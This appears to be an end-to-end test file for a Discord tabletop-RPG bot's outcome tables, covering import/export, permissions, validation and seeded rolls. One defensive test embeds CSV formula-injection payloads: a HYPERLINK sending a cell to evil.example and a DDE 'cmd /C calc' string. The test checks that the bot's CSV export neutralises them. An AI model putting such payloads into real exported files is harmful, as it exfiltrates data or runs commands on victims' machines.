// Outcome tables and outcome rolls through the real bot and the fake Discord (RULES 1.4).
import { readFileSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import { rollD100 } from '../../src/engine/dice.js';
import { seededRng } from '../../src/engine/rng.js';
import { tableToCsv, tableToJson, type OutcomeTable, type TableRow } from '../../src/engine/tables.js';
import type { SandboxResponse } from '../../src/sandbox/types.js';
import { startTestSandbox, textOf, type TestSandbox } from '../helpers/sandbox.js';

const NO_PINGS = { parse: [] };
const DISPATCHER = { user: 'dora', roles: ['dispatcher'] };

/** A seed whose first D100 (the first two draws) shows `value`, as the bot rolls it. */
function seedFor(value: number): string {
  for (let i = 0; ; i++) {
    const seed = `outcome-${value}-${i}`;
    if (rollD100(seededRng(seed)).value === value) return seed;
  }
}

function row(min: number, max: number, text: string, extra: Partial<TableRow> = {}): TableRow {
  return { min, max, text, next: null, reveals: null, ...extra };
}

const reload: OutcomeTable = {
  name: 'Reload Outcome Table',
  die: 'd100',
  asks: 'Add your Machine Gun Handling aptitude',
  skill: 'Machine Gun Handling',
  rows: [row(1, 40, 'Jammed: clear it first.', { next: 'Jam' }), row(41, 80, 'Slow reload.'), row(81, 120, 'Clean reload.'), row(121, 200, 'Combat reload.')],
};

const jam: OutcomeTable = { name: 'Jam', die: 'd100', asks: '', skill: null, rows: [row(1, 50, 'Stuck for a round.'), row(51, 100, 'Cleared at once.')] };

let sandbox: TestSandbox;
afterEach(async () => {
  expect(sandbox.fake.violations).toEqual([]);
  await sandbox.stop();
});

async function importJson(table: OutcomeTable, extra: Record<string, unknown> = {}): Promise<SandboxResponse> {
  return sandbox.one({ ...DISPATCHER, command: 'table import', options: { file: { filename: `${table.name}.json`, content: tableToJson(table) }, ...extra } });
}

async function storedRolls(limit = 10): Promise<Array<Record<string, unknown>>> {
  const response = await fetch(`${sandbox.url}/api/rolls?limit=${limit}`);
  return ((await response.json()) as { rolls: Array<Record<string, unknown>> }).rolls;
}

async function exportOf(name: string, format?: 'json' | 'csv'): Promise<string> {
  const reply = await sandbox.one({ user: 'sasha', command: 'table export', options: { name, ...(format ? { format } : {}) } });
  expect(reply).toMatchObject({ ephemeral: true, allowedMentions: NO_PINGS });
  expect(reply.attachments).toHaveLength(1);
  return reply.attachments![0]!.content!;
}

async function troy(): Promise<void> {
  await sandbox.one({ user: 'mike', command: 'sheet create', options: { name: 'Troy' } });
  await sandbox.one({ user: 'mike', command: 'sheet skill set', options: { name: 'Machine Gun Handling', level: 36 } });
  await sandbox.one({ user: 'mike', command: 'sheet skill set', options: { name: 'Climbing', level: 20 } });
  await sandbox.one({ user: 'mike', command: 'sheet archetype set', options: { name: 'Acuity', modifier: 10 } });
}

function buttonsOf(response: SandboxResponse): Array<{ custom_id: string; label: string; disabled?: boolean }> {
  // The Roll again row every typed roll carries is test/e2e/roll-again.test.ts's; these tests read the command's own.
  return (response.components as Array<{ components: Array<{ custom_id: string; label: string; disabled?: boolean }> }>).flatMap((r) => r.components).filter((button) => !button.custom_id.startsWith('roll:'));
}

describe('/table: a Dispatcher keeps the tables, everyone reads them', () => {
  it('imports CSV and JSON; show, list and export give back exactly what was imported', async () => {
    sandbox = await startTestSandbox();
    const csvFile = readFileSync(new URL('../../examples/fall-damage.example.csv', import.meta.url), 'utf8');
    const csv = await sandbox.one({
      ...DISPATCHER,
      command: 'table import',
      options: { file: { filename: 'fall-damage.example.csv', content: csvFile }, name: 'Fall Damage (example)', asks: 'Add nothing' },
    });
    expect(csv).toMatchObject({ kind: 'reply', ephemeral: true, allowedMentions: NO_PINGS });
    expect(csv.content).toContain('Imported **Fall Damage (example)**: 4 rows (1–100), die **d100**, asks *Add nothing*.');

    const jsonFile = readFileSync(new URL('../../examples/reload.example.json', import.meta.url), 'utf8');
    const json = await sandbox.one({ ...DISPATCHER, command: 'table import', options: { file: { filename: 'reload.example.json', content: jsonFile }, name: 'Ignored', die: 'd20' } });
    expect(json.content).toContain('Imported **Reload (example)**: 4 rows (1–200), die **d100**, asks *Add your Machine Gun Handling aptitude*, default skill **Machine Gun Handling**.');
    expect(json.content).toContain('The file sets its own `name`, `die`, so the options were not used.');

    // A CSV without a name option is named after its file; quotes, commas, line breaks and unicode survive.
    const tricky = 'min,max,text,next,reveals\n1,2,"Er sagt ""Nachladen!"", dann — 装填 🔫",,\n3,4,"two\nlines",Jam,band\n';
    const named = await sandbox.one({ ...DISPATCHER, command: 'table import', options: { file: { filename: 'Überladen.csv', content: tricky }, die: '1d4' } });
    expect(named.content).toContain('Imported **Überladen**: 2 rows (1–4), die **1d4**.');
    expect(named.content).toContain('Rows name next tables this server does not have yet: **Jam**.');

    const list = await sandbox.one({ user: 'sasha', command: 'table list' });
    expect(list).toMatchObject({ ephemeral: true, allowedMentions: NO_PINGS });
    expect(textOf(list)).toMatch(/\*\*Fall Damage \(example\)\*\* · d100, 4 rows\n• \*\*Reload \(example\)\*\* · d100, 4 rows, adds Machine Gun Handling\n• \*\*Überladen\*\* · 1d4, 2 rows/);
    expect(textOf(list)).toContain('3 of 50 tables');

    const show = await sandbox.one({ user: 'sasha', command: 'table show', options: { name: 'überladen' } });
    expect(show).toMatchObject({ ephemeral: true, allowedMentions: NO_PINGS });
    expect(textOf(show)).toContain('**1–2** · Er sagt "Nachladen!", dann — 装填 🔫');
    expect(textOf(show)).toContain('**3–4** · two lines (→ roll **Jam**; 🔎 reveals the Challenge Level within a band of 20)');

    expect(await exportOf('Fall Damage (example)', 'csv')).toBe(csvFile);
    expect(await exportOf('Überladen', 'csv')).toBe(tricky);
    // The example leaves out what is optional (a note, empty `next` / `reveals`); the export writes every field.
    const { note: _note, ...example } = JSON.parse(jsonFile) as { note: string; rows: object[] };
    const filledIn = { ...example, rows: example.rows.map((r) => ({ next: null, reveals: null, ...r })) };
    expect(JSON.parse(await exportOf('reload (EXAMPLE)'))).toEqual(filledIn);
    const exported = await sandbox.one({ user: 'sasha', command: 'table export', options: { name: 'Überladen', format: 'csv' } });
    expect(exported.attachments![0]!.filename).toBe('Überladen.csv');
    expect(exported.content).toContain('`/table import file:… name:Überladen die:1d4`');

    // JSON → import → export: byte for byte.
    await importJson(reload);
    expect(await exportOf(reload.name)).toBe(tableToJson(reload));
    expect(await exportOf(reload.name, 'csv')).toBe(tableToCsv(reload));
  });

  it('a CSV export any member downloads runs no formula in a spreadsheet, and imports back to the same table', async () => {
    sandbox = await startTestSandbox();
    const traps: OutcomeTable = {
      name: 'Traps',
      die: 'd100',
      asks: '',
      skill: null,
      rows: [
        row(1, 25, '=HYPERLINK("https://evil.example/?x="&A1,"Claim your loot")'),
        row(26, 50, "+cmd|' /C calc'!A0", { next: '@Trap' }),
        row(51, 75, '-10 on your next roll'),
        row(76, 100, 'Nothing happens.'),
      ],
    };
    await importJson(traps);
    const csv = await exportOf('Traps', 'csv');
    expect(csv.split('\n').slice(1, 5)).toEqual([
      '1,25,"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Claim your loot"")",,',
      '26,50,"\'+cmd|\' /C calc\'!A0","\'@Trap",',
      '51,75,"\'-10 on your next roll",,',
      '76,100,Nothing happens.,,',
    ]);
    const imported = await sandbox.one({ ...DISPATCHER, command: 'table import', options: { file: { filename: 'Traps.csv', content: csv }, replace: true } });
    expect(imported.content).toContain('**Traps**: 4 rows');
    expect(await exportOf('Traps')).toBe(tableToJson(traps));
  });

  it('refuses a non-Dispatcher privately, naming the role, and changes nothing', async () => {
    sandbox = await startTestSandbox();
    await importJson(reload);
    const before = await exportOf(reload.name);

    const importing = await sandbox.one({
      user: 'sasha',
      command: 'table import',
      options: { file: { filename: 'mine.json', content: tableToJson({ ...reload, rows: [row(1, 100, 'Mine now')] }) }, replace: true },
    });
    expect(importing).toMatchObject({ kind: 'reply', ephemeral: true, allowedMentions: NO_PINGS });
    expect(importing.content).toContain('Only a Dispatcher can import outcome tables. Here a Dispatcher has a role named @Dispatcher or the Manage Server permission; a member with Manage Server can pick one role instead with `/config dispatcher-role`.');
    expect(importing.content).toContain('Nothing was changed.');
    const deleting = await sandbox.one({ user: 'sasha', command: 'table delete', options: { name: reload.name } });
    expect(deleting).toMatchObject({ ephemeral: true, components: [] });
    expect(deleting.content).toContain('Only a Dispatcher can delete outcome tables');
    expect(await exportOf(reload.name)).toBe(before);

    // The confirm button: only the Dispatcher who asked may press it, not another player, not another Dispatcher.
    const prompt = await sandbox.one({ ...DISPATCHER, command: 'table delete', options: { name: 'reload outcome table' } });
    expect(prompt).toMatchObject({ ephemeral: true, allowedMentions: NO_PINGS });
    expect(prompt.content).toContain('Delete the outcome table **Reload Outcome Table** with its 4 rows?');
    const confirm = buttonsOf(prompt).find((button) => button.label.startsWith('Delete'))!;
    for (const presser of [{ user: 'sasha' }, { user: 'otto', roles: ['dispatcher'] }]) {
      const refused = await sandbox.one({ ...presser, button: confirm.custom_id, message: prompt.messageId! });
      expect(refused).toMatchObject({ kind: 'reply', ephemeral: true });
      expect(refused.content).toContain('Only the Dispatcher who asked for this delete can confirm it. Nothing was changed.');
    }
    expect(await exportOf(reload.name)).toBe(before);

    const done = await sandbox.one({ ...DISPATCHER, button: confirm.custom_id, message: prompt.messageId! });
    expect(done).toMatchObject({ kind: 'update', components: [], content: 'Deleted the outcome table **Reload Outcome Table**.' });
    expect(textOf(await sandbox.one({ user: 'sasha', command: 'table list' }))).toContain('No tables yet');
  });

  it('names the first bad line of a bad file and leaves the old table exactly as it was', async () => {
    sandbox = await startTestSandbox();
    await importJson(reload);
    const before = await exportOf(reload.name);
    const cases: Array<[string, string, string]> = [
      ['bad.csv', 'min,max,text\n1,50,a\n40,100,b\n60,40,c\n', 'line 3: the range 40–100 overlaps the row before (1–50)'],
      ['bad.csv', 'min,max,text\n1,50,a\n51,100,"never closed\n', 'line 3: a quoted field is never closed'],
      ['bad.csv', 'min,max,text\n1,50,a\n51,100,b,c\n', 'line 3: 4 fields but the header names 3'],
      ['bad.csv', 'min,max,text\n1,50,a\n55,100,b\n', 'line 3: the range starts at 55 but the row before ends at 50, leaving 51–54 uncovered'],
      ['bad.json', JSON.stringify({ name: reload.name, rows: [{ min: 1, max: 50, text: 'a' }, { min: 51, max: 100, text: ' ' }] }), 'row 2: the text is empty'],
      ['bad.json', '{"name": "Reload Outcome Table", "rows": [', 'JSON:'],
    ];
    for (const [filename, content, problem] of cases) {
      const reply = await sandbox.one({ ...DISPATCHER, command: 'table import', options: { file: { filename, content }, name: reload.name, replace: true } });
      expect(reply, content).toMatchObject({ kind: 'reply', ephemeral: true });
      expect(reply.content, content).toContain(problem);
      expect(reply.content, content).toContain('Nothing was changed.');
    }
    const notReplacing = await sandbox.one({ ...DISPATCHER, command: 'table import', options: { file: { filename: 'ok.csv', content: 'min,max,text\n1,2,a\n' }, name: 'reload outcome TABLE' } });
    expect(notReplacing.content).toContain('already has a table named **Reload Outcome Table**. Import again with `replace:true`');
    expect(await exportOf(reload.name)).toBe(before);

    const replaced = await sandbox.one({ ...DISPATCHER, command: 'table import', options: { file: { filename: 'ok.csv', content: 'min,max,text\n1,2,a\n' }, name: 'reload outcome TABLE', replace: true } });
    expect(replaced.content).toContain('Replaced **reload outcome TABLE**: 1 row (1–2)');
  });

  it('autocompletes table names in every table option, and skills from the active sheet', async () => {
    sandbox = await startTestSandbox();
    await importJson(reload);
    await importJson(jam);
    await troy();
    const expected = [{ name: 'Reload Outcome Table', value: 'Reload Outcome Table' }];
    for (const command of ['table show', 'table export', 'table delete', 'table import']) {
      const choices = await sandbox.one({ user: 'mike', command, options: { name: 'rel' }, focused: 'name' });
      expect(choices, command).toMatchObject({ kind: 'autocomplete', choices: expected });
    }
    expect((await sandbox.one({ user: 'mike', command: 'roll outcome', options: { table: 'a' }, focused: 'table' })).choices).toEqual([
      { name: 'Jam', value: 'Jam' },
      { name: 'Reload Outcome Table', value: 'Reload Outcome Table' },
    ]);
    expect((await sandbox.one({ user: 'mike', command: 'roll outcome', options: { table: 'Jam', skill: 'mach' }, focused: 'skill' })).choices).toEqual([
      { name: 'Machine Gun Handling (36)', value: 'Machine Gun Handling' },
    ]);
    expect((await sandbox.one({ user: 'mike', command: 'roll outcome', options: { table: 'Jam', archetypes: 'ac' }, focused: 'archetypes' })).choices).toEqual([
      { name: 'Acuity', value: 'Acuity' },
    ]);
  });
});

describe('/roll outcome', () => {
  it('the seed example: 48 + Machine Gun Handling 36 = 84, the row covering 84; stored and replayable even after the table changes', async () => {
    sandbox = await startTestSandbox({ seeds: [seedFor(48), seedFor(48)] });
    await importJson(reload);
    await troy();
    const reply = await sandbox.one({ user: 'mike', command: 'roll outcome', options: { table: 'reload outcome table', skill: 'machine gun handling' } });
    expect(reply).toMatchObject({ kind: 'reply', ephemeral: false, allowedMentions: NO_PINGS });
    expect(buttonsOf(reply)).toEqual([]);
    const text = textOf(reply);
    expect(text).toContain('Reload Outcome Table: 84');
    expect(text).toContain('*Add your Machine Gun Handling aptitude*');
    expect(text).toContain('[4][8] → 48');
    expect(text).toContain('48 (d100) + 36 Machine Gun Handling = **84**');
    expect(text).toContain('**81–120** · Clean reload.');
    expect(text).not.toContain('applies');
    const rollId = /Roll (\w{8})/.exec(text)![1]!;

    const [stored] = await storedRolls(1);
    expect(stored).toMatchObject({ id: rollId, kind: 'outcome', total: 84, dice: [{ tens: 4, ones: 8 }], inputs: { table: reload, modifiers: [{ name: 'Machine Gun Handling', value: 36 }] } });

    // The table changes afterwards; the replay re-derives the roll on the table as it was.
    await importJson({ ...reload, rows: [row(1, 200, 'Everything changed.')] }, { replace: true });
    const replay = await sandbox.one({ user: 'sasha', command: 'roll replay', options: { id: rollId } });
    expect(replay).toMatchObject({ allowedMentions: NO_PINGS });
    const replayed = textOf(replay);
    expect(replayed).toContain(`Roll ${rollId}: the dice match`);
    expect(replayed).toContain('Reload Outcome Table (the table as it was rolled)');
    expect(replayed).toContain('[4][8] → 48');
    expect(replayed).toContain('48 (d100) + 36 Machine Gun Handling = **84**');
    expect(replayed).toContain('**81–120** · Clean reload.');

    // With no skill named, the table's default skill is added.
    const byDefault = await sandbox.one({ user: 'mike', command: 'roll outcome', options: { table: 'Reload Outcome Table' } });
    expect(textOf(byDefault)).toContain('48 (d100) + 36 Machine Gun Handling = **84**');
  });

  it('shows every term, and clamps below the first row and above the last, saying so', async () => {
    const [below, above, plain] = [seedFor(48), seedFor(100), seedFor(7)];
    sandbox = await startTestSandbox({ seeds: [below, above, plain] });
    await importJson(reload);
    await troy();
    const low = textOf(await sandbox.one({ user: 'mike', command: 'roll outcome', options: { table: 'Reload Outcome Table', skill: 'Climbing', archetypes: 'acuity', modifier: -100 } }));
    expect(low).toContain('[4][8] → 48');
    expect(low).toContain('48 (d100) + 20 Climbing + 10 Acuity − 100 situational = **-22**');
    expect(low).toContain('-22 is below the first row (1–40), so the first row applies.');
    expect(low).toContain('**1–40** · Jammed: clear it first.');

    const high = textOf(await sandbox.one({ user: 'mike', command: 'roll outcome', options: { table: 'Reload Outcome Table', archetypes: 'Acuity', modifier: 200 } }));
    expect(high).toContain('[0][0] → 100');
    expect(high).toContain('100 (d100) + 36 Machine Gun Handling + 10 Acuity + 200 situational = **346**');
    expect(high).toContain('346 is above the last row (121–200), so the last row applies.');
    expect(high).toContain('**121–200** · Combat reload.');

    // Someone without a sheet rolls a table that asks for nothing: just the die.
    await importJson(jam);
    const bare = textOf(await sandbox.one({ user: 'kat', command: 'roll outcome', options: { table: 'jam' } }));
    expect(bare).toContain('[0][7] → 7');
    expect(bare).toContain('7 (d100) = **7**');
    expect(await storedRolls()).toHaveLength(3);
  });

  it('refuses what cannot be added, privately, and rolls nothing', async () => {
    sandbox = await startTestSandbox();
    await importJson(reload);
    await troy();
    const cases: Array<[Record<string, unknown>, string, string?]> = [
      [{ table: 'Reload' }, 'There is no outcome table named **Reload** on this server. Did you mean **Reload Outcome Table**?'],
      [{ table: 'Reload Outcome Table', skill: 'Driving' }, 'Troy has no skill named **Driving**.'],
      [{ table: 'Reload Outcome Table', archetypes: 'Grit' }, 'Troy has no archetype named **Grit**.'],
      [{ table: 'Reload Outcome Table', modifier: 500 }, 'The situational modifier must be from -200 to +200; 500 is not.'],
      [{ table: 'Reload Outcome Table' }, 'The table **Reload Outcome Table** adds your **Machine Gun Handling** aptitude when you name no skill. Skills and archetype modifiers come from your active sheet, and you have none.', 'kat'],
    ];
    for (const [options, message, user = 'mike'] of cases) {
      const reply = await sandbox.one({ user, command: 'roll outcome', options });
      expect(reply, JSON.stringify(options)).toMatchObject({ kind: 'reply', ephemeral: true });
      expect(reply.content, JSON.stringify(options)).toContain(message);
    }
    expect(await storedRolls()).toEqual([]);
  });

  it('offers the next table as a button: only the roller may press it, once, with the same sheet and no extra terms', async () => {
    sandbox = await startTestSandbox({ seeds: [seedFor(4), seedFor(4), seedFor(77), seedFor(4), seedFor(10)] });
    await importJson(reload);
    await troy();
    const roll = { user: 'mike', command: 'roll outcome', options: { table: 'Reload Outcome Table', archetypes: 'Acuity', modifier: -10 } };

    // 4 + 36 + 10 − 10 = 40: the row 1–40 names the table Jam, which does not exist yet: a note, no button.
    const noJam = await sandbox.one(roll);
    expect(textOf(noJam)).toContain('Next: **Jam**, but this server has no table of that name.');
    expect(buttonsOf(noJam)).toEqual([]);

    await importJson(jam);
    const first = await sandbox.one(roll);
    expect(textOf(first)).toContain('Next: **Jam** (the button below rolls it).');
    const [button] = buttonsOf(first);
    expect(button).toMatchObject({ label: 'Roll Jam' });
    expect(await storedRolls()).toHaveLength(2);

    const intruder = await sandbox.one({ user: 'sasha', button: button!.custom_id, message: first.messageId! });
    expect(intruder).toMatchObject({ kind: 'reply', ephemeral: true, allowedMentions: NO_PINGS });
    expect(intruder.content).toContain(`Only <@${sandbox.fake.user('mike').id}>, who made this roll, can roll its next table. Nothing was rolled.`);
    expect(await storedRolls()).toHaveLength(2);

    const pressed = await sandbox.act({ user: 'mike', button: button!.custom_id, message: first.messageId! });
    // The next roll is in the channel before the button greys (a lost post leaves the button to post it next time).
    expect(pressed.responses.map((response) => [response.kind, response.ephemeral])).toEqual([
      ['deferred', false],
      ['followup', false],
      ['edit', false],
    ]);
    const [, followup, update] = pressed.responses as [SandboxResponse, SandboxResponse, SandboxResponse];
    expect(buttonsOf(update)).toMatchObject([{ label: 'Rolled Jam', disabled: true }]);
    expect(textOf(update)).toContain('Reload Outcome Table: 40'); // the first roll stays as it was
    expect(followup.allowedMentions).toEqual(NO_PINGS);
    const next = textOf(followup);
    expect(next).toContain('**Troy** · Jam');
    expect(next).toContain('[7][7] → 77');
    expect(next).toContain('77 (d100) = **77**'); // no skill, no archetypes, no modifier carried over
    expect(next).toContain('**51–100** · Cleared at once.');
    expect(await storedRolls()).toHaveLength(3);
    await expect(sandbox.fake.interact({ user: 'mike', button: button!.custom_id, message: first.messageId! })).rejects.toThrow(/disabled/);

    // A next table with a default skill adds it, from the sheet of the first roll even if another one is active now.
    await importJson({ ...jam, skill: 'Climbing' }, { replace: true });
    const second = await sandbox.one(roll);
    await sandbox.one({ user: 'mike', command: 'sheet create', options: { name: 'Decoy' } });
    await sandbox.one({ user: 'mike', command: 'sheet skill set', options: { name: 'Climbing', level: 90 } });
    const again = await sandbox.act({ user: 'mike', button: buttonsOf(second)[0]!.custom_id, message: second.messageId! });
    const withSkill = textOf(again.responses[1]!);
    expect(withSkill).toContain('**Troy** · Jam');
    expect(withSkill).toContain('10 (d100) + 20 Climbing = **30**');
    const childId = /Roll (\w{8})/.exec(withSkill)![1]!;
    expect(textOf(await sandbox.one({ user: 'sasha', command: 'roll replay', options: { id: childId } }))).toContain('the dice match');
  });

  it('never pings, whatever the row text says', async () => {
    sandbox = await startTestSandbox({ seeds: [seedFor(50)] });
    const loud: OutcomeTable = { name: '@everyone table', die: 'd100', asks: '@here add nothing', skill: null, rows: [row(1, 100, '@everyone <@&123> <@456> wake up', { next: '@everyone next' })] };
    const imported = await importJson(loud);
    expect(imported.allowedMentions).toEqual(NO_PINGS);
    await importJson({ ...loud, name: '@everyone next' });
    const rolled = await sandbox.one({ user: 'mike', command: 'roll outcome', options: { table: '@everyone table' } });
    expect(rolled).toMatchObject({ ephemeral: false, allowedMentions: NO_PINGS });
    expect(textOf(rolled)).toContain('@everyone <@&123> <@456> wake up');
    const shown = await sandbox.one({ user: 'mike', command: 'table show', options: { name: '@everyone table' } });
    expect(shown.allowedMentions).toEqual(NO_PINGS);
    expect((await sandbox.one({ user: 'mike', command: 'table list' })).allowedMentions).toEqual(NO_PINGS);
  });
});
